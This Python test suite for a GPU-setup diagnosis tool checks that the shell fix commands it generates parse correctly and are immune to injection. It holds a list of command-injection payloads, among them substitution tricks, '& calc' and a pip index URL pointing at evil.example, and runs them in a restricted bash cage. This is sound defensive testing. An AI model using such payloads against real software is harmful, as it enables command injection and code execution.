"""Every command of every answer: one sequence, quoted for its shell, deaf to what was read."""

from __future__ import annotations

import ast
import os
import random
import re
import shlex
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from closing.shells import Refused, by_powershell
from closing.variants import variants
from hypothesis import given
from hypothesis import strategies as st
from judging import HEALTHY

from gpusetup import shell
from gpusetup.catalog_file import load_catalog
from gpusetup.codec import from_plain, to_plain
from gpusetup.model import Event, Finding, Fix, Snapshot, typed
from gpusetup.rules.judge import diagnose
from gpusetup.snapshot import example_machines, load_snapshot, machine_named
from gpusetup.value import replace

ROOT = Path(__file__).resolve().parent.parent
RULES = sorted((ROOT / "gpusetup" / "rules").glob("*.py"))
CATALOG = load_catalog()


def findings(machine: Snapshot) -> tuple[Finding, ...]:
    return diagnose(machine, CATALOG).findings


def machines() -> Iterator[tuple[str, Snapshot]]:
    for name in example_machines():
        yield name, machine_named(name)
    for path in sorted((ROOT / "tests" / "machines").glob("*/snapshot.json")):
        yield path.parent.name, load_snapshot(path)
    for name, world in variants():
        yield name, world.snapshot


def fixes(machine: Snapshot) -> Iterator[tuple[str, Fix]]:
    for finding in findings(machine):
        if finding.fix:
            yield finding.id, finding.fix


MACHINES = dict(machines())
ALL_FIXES = [
    (name, machine.os.family, id, fix)
    for name, machine in MACHINES.items()
    for id, fix in fixes(machine)
]


# --- all machines ---------------------------------------------------------------------------------


def test_there_is_enough_to_look_at() -> None:
    assert len(MACHINES) > 500 and sum(len(typed(fix)) for *_, fix in ALL_FIXES) > 2000


def test_the_way_and_every_other_way_is_a_block_that_its_shell_reads() -> None:
    for name, family, id, fix in ALL_FIXES:
        for block in (fix.commands, *(other.commands for other in fix.alternatives)):
            for line in block:
                if family == "windows":
                    by_powershell(line)
                else:
                    assert shlex.split(line), (name, id)
    bash = [line for _, family, _, fix in ALL_FIXES if family != "windows" for line in typed(fix)]
    assert syntax_errors(bash) == ""


PLACEHOLDER = re.compile(r"<[a-z][\w -]*>|\.\.\.|\b(?:IMAGE|SCRIPT|POD|CONTAINER|PATH_TO|WATTS)\b")


def test_no_command_holds_a_placeholder() -> None:
    for name, _, id, fix in ALL_FIXES:
        for line in typed(fix):
            assert not PLACEHOLDER.search(line), (name, id, line)


ASKS = re.compile(
    r"(?:sudo )?(?:apt|dnf|zypper) (?:install|purge|remove)(?!.* -y)|"
    r"(?:sudo )?pacman -\w+(?!.*--noconfirm)|conda (?:install|remove|create)(?!.* (?:-y|--yes))|"
    r"\S*python\S* -m pip uninstall(?!.* -y)|gpusetup install(?!.*--yes)"
)
"""What asks before it acts: the next line that is pasted would be its answer."""


def test_what_asks_stands_last() -> None:
    for name, _, id, fix in ALL_FIXES:
        for block in (fix.commands, *(other.commands for other in fix.alternatives)):
            for line in block[:-1]:
                assert not ASKS.match(line), (name, id, line)


def test_nothing_follows_a_reboot() -> None:
    for name, _, id, fix in ALL_FIXES:
        assert "sudo reboot" not in fix.commands[:-1], (name, id)


# --- the source -----------------------------------------------------------------------------------


def calls(path: Path, name: str) -> Iterator[ast.Call]:
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Call):
            called = node.func
            if getattr(called, "id", getattr(called, "attr", "")) == name:
                yield node


def test_only_the_shell_makes_lines() -> None:
    for path in sorted((ROOT / "gpusetup").rglob("*.py")):
        if "gpusetup.shell" in path.read_text(encoding="utf-8"):
            assert not list(calls(path, "Line")), path


def ours(node: ast.AST) -> bool:
    """Whether a text stands in our source: what is put into it is a name of a constant."""
    if isinstance(node, ast.JoinedStr):
        parts = [part.value for part in node.values if isinstance(part, ast.FormattedValue)]
        return all(isinstance(p, ast.IfExp | ast.Call) or is_constant(p) for p in parts)
    return not isinstance(node, ast.BinOp | ast.Call)


def is_constant(node: ast.AST) -> bool:
    return isinstance(node, ast.Name) and node.id.isupper()


@pytest.mark.parametrize("path", RULES, ids=lambda path: path.stem)
def test_a_line_of_our_own_holds_no_value_of_a_machine(path: Path) -> None:
    for call in calls(path, "lines"):
        assert all(ours(argument) for argument in call.args), (path.name, call.lineno)
    for call in calls(path, "filled"):
        assert ours(call.args[0]), (path.name, call.lineno)


# --- values that want to act ----------------------------------------------------------------------

PAYLOADS = (
    "$(canary)", "`canary`", "'; canary; '", '"; canary; "', "a; canary", "a && canary #",
    "a\ncanary\n", "|canary", "& canary", "${x:-$(canary)}", "x'$(canary)'y", "\\'; canary; \\'",
    "\u2019; canary; \u2018", "a'$(canary)\u201d", "%PATH%", "& calc", "\x1b[31m$(canary)",
    "--index-url=http://evil.example/$(canary)", "-c canary", "\u202e$(canary)", "a\x00$(canary)",
    "~/$(canary)", "a b", "{0}", "{package}", "%s", "=canary", "canary=1", "!canary", "*", "",
)  # fmt: skip
AROUND = (
    "{}",
    "/opt/{}/bin/python",
    "580.{}",
    "2.5.1+{}",
    "C:\\x\\{}",
    "/home/u/torch_extensions/{}",
)
KEEP = ("schema", "origin", "family", "compute_capability", "mode", "kernels")


def kinds_and_names() -> tuple[list[str], list[str]]:
    """The kinds of events and the names of their values that the rules read."""
    source = "\n".join(path.read_text(encoding="utf-8") for path in RULES)
    names = set(re.findall(r"values(?:\.get\(|\[)\"(\w+)\"", source)) | {"device", "compiler"}
    kinds = set(re.findall(r"kind=\"([\w-]+)\"", source))
    for group in re.findall(r"events\(case, ((?:\"[\w-]+\",? ?)+)", source):
        kinds |= set(re.findall(r"\"([\w-]+)\"", group))
    return sorted(kinds), sorted(names)


KINDS, NAMES = kinds_and_names()
BASES = [to_plain(machine) for machine in (HEALTHY, *MACHINES.values())]


def hostile(draw: random.Random) -> Snapshot:
    """A machine of which some texts want to act, and that says things which want to."""
    while True:
        plain = poisoned(draw.choice(BASES), draw)
        plain["os"]["family"] = draw.choice(("linux", "linux", "linux", "windows", None))
        plain["origin"] = draw.choice(("live", "report"))
        try:
            machine = from_plain(plain, Snapshot, what="it")
        except Exception:  # a text that no snapshot may hold
            continue
        said = tuple(
            Event(
                kind=draw.choice(KINDS), source="x", text="x", values={n: bad(draw) for n in NAMES}
            )
            for _ in range(draw.randint(1, 3))
        )
        return replace(machine, events=said)


def poisoned(value: Any, draw: random.Random, key: str = "") -> Any:
    if isinstance(value, dict):
        return {k: v if k in KEEP else poisoned(v, draw, k) for k, v in value.items()}
    if isinstance(value, list):
        return [poisoned(v, draw, key) for v in value]
    return bad(draw) if isinstance(value, str) and draw.random() < 0.15 else value


def bad(draw: random.Random) -> str:
    return draw.choice(AROUND).replace("{}", draw.choice(PAYLOADS))


def lines_of(count: int, seed: int) -> tuple[set[str], set[str]]:
    """The lines for bash, and those for PowerShell, of so many machines."""
    draw = random.Random(seed)
    bash: set[str] = set()
    power: set[str] = set()
    for _ in range(count):
        machine = hostile(draw)
        into = power if machine.os.family == "windows" else bash
        into.update(line for _, fix in fixes(machine) for line in typed(fix))
    return bash, power


COUNT = int(os.environ.get("GPUSETUP_HOSTILE", "600"))


@pytest.fixture(scope="module")
def written() -> tuple[set[str], set[str]]:
    return lines_of(COUNT, seed=11)


def test_no_value_acts_in_bash(written: tuple[set[str], set[str]]) -> None:
    bash, _ = written
    assert len(bash) > min(COUNT / 3, 1500)
    assert syntax_errors(sorted(bash)) == ""
    assert run_by_bash(sorted(bash)) == ""


def test_no_value_acts_in_powershell(written: tuple[set[str], set[str]]) -> None:
    _, power = written
    assert len(power) > min(COUNT / 10, 300)
    for line in power:
        for command in words_of_powershell(line):
            assert command[0] not in ("canary", "calc"), line


def words_of_powershell(line: str) -> list[tuple[str, ...]]:
    if line.startswith("$env:"):
        name, equals, rest = line.partition(" = ")
        assert re.fullmatch(r"\$env:\w+", name) and equals
        pieces = re.findall(r"'(?:[^'\u2018-\u201b]|['\u2018-\u201b]{2})*'|\S+", rest)
        assert all(p[0] == "'" or re.fullmatch(r"\+|\$env:\w+|\(|\)", p) for p in pieces), line
        return [(name,)]
    try:
        return [typed.words for typed in by_powershell(line)]
    except Refused as problem:
        raise AssertionError(f"{line}: {problem}") from problem


def test_no_line_holds_what_cannot_be_printed(written: tuple[set[str], set[str]]) -> None:
    for line in set.union(*written):
        assert line.isprintable(), line


def syntax_errors(lines: list[str]) -> str:
    """What bash says of the lines, each a function of its own, none of them run."""
    text = "".join(f"f{n}() {{\n{line}\n}}\n" for n, line in enumerate(lines))
    done = subprocess.run(
        ("bash", "--noprofile", "--norc", "-n"),
        input=text.encode("utf-8", "surrogateescape"), capture_output=True, check=False,
    )  # fmt: skip
    return done.stderr.decode("utf-8", "replace")[:2000]


CAGE = """
canary() { kill -USR1 $$; }
trap 'hits="$hits
$line"' USR1
while IFS= read -r -d '' line; do
  ( eval "$line" ) </dev/null >/dev/null 2>&1
done
printf %s "$hits"
"""
"""A restricted shell (`bash -r`) without PATH: no program starts, no file is written. A value that
acts calls `canary`, which signals the shell itself; the line is then printed."""


def run_by_bash(lines: list[str]) -> str:
    """The lines in which something acted."""
    environment = {"PATH": "/nonexistent"}
    read = "".join(f"{line}\0" for line in lines)
    started = ("/bin/bash", "--noprofile", "--norc", "-r", "-c", CAGE)
    # Redirections are not for a restricted shell: the loop's are taken away before it is one.
    free = CAGE.replace("( eval", "( set -r; eval")
    done = subprocess.run(
        (*started[:3], "-c", free), env=environment, capture_output=True, check=False,
        input=read.encode("utf-8", "surrogateescape"),
    )  # fmt: skip
    return done.stdout.decode("utf-8", "replace")


def test_the_cage_sees_what_acts() -> None:
    caught = run_by_bash(["echo $(canary)", "echo 'x'; canary", "echo '$(canary)'", "/bin/true"])
    assert caught.split("\n")[1:] == ["echo $(canary)", "echo 'x'; canary"]


# --- one word -------------------------------------------------------------------------------------

ANY = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=30)
NASTY = st.text(st.sampled_from("ab '\"$`\\!%^&|<>(){};,@#~*?\u2019\u201c\n\t=-+."), max_size=20)


@given(st.one_of(ANY, NASTY))
def test_bash_hands_on_exactly_the_word(text: str) -> None:
    line = shell.line(("printf", "%s.", text), "bash")
    done = subprocess.run(
        ("/bin/bash", "--noprofile", "--norc", "-c", line), capture_output=True, check=True
    )
    assert done.stdout == f"{text}.".encode()


@given(st.one_of(ANY, NASTY))
def test_a_setting_of_bash_is_exactly_the_value(text: str) -> None:
    line = shell.setting("GPUSETUP_X", text, "bash")
    done = subprocess.run(
        ("/bin/bash", "--noprofile", "--norc", "-c", f'{line}\nprintf %s. "$GPUSETUP_X"'),
        capture_output=True, check=True,
    )  # fmt: skip
    assert done.stdout == f"{text}.".encode()


SINGLE = "'\u2018\u2019\u201a\u201b"


@given(NASTY.filter(str.isprintable))
def test_powershell_reads_one_text_in_single_quotes(text: str) -> None:
    written = shell.word(text, "powershell")
    if not written.startswith("'"):
        assert written == text and re.fullmatch(r"[\w./\\:=+-]+", written, re.ASCII)
        return
    inside, place, read = written[1:-1], 0, ""
    while place < len(inside):
        if inside[place] in SINGLE:
            assert inside[place + 1] in SINGLE
            place += 1
        read += inside[place]
        place += 1
    assert read == re.sub(r"(\\+)$", r"\1\1", re.sub(r'(\\*)"', r'\1\1\\"', text))


@given(NASTY.filter(str.isprintable))
def test_cmd_reads_one_word(text: str) -> None:
    """cmd's own reading: carets outside of quotes, `%` as it stands at a prompt, then argv."""
    written = shell.word(text, "cmd")
    passed, quoted, place = "", False, 0
    while place < len(written):
        c = written[place]
        if c == "^" and not quoted:
            place += 1
            passed += written[place]
        else:
            quoted ^= c == '"'
            assert quoted or c not in "&|<>()%", written
            assert c != "%" or not quoted, written
            passed += c
        place += 1
    assert argument(passed) == text


def argument(passed: str) -> str:
    """CommandLineToArgvW of one argument."""
    read, place, backslashes = "", 0, 0
    while place < len(passed):
        c = passed[place]
        if c == "\\":
            backslashes += 1
        elif c == '"':
            read += "\\" * (backslashes // 2) + ('"' if backslashes % 2 else "")
            backslashes = 0
        else:
            read, backslashes = read + "\\" * backslashes + c, 0
        place += 1
    return read + "\\" * backslashes
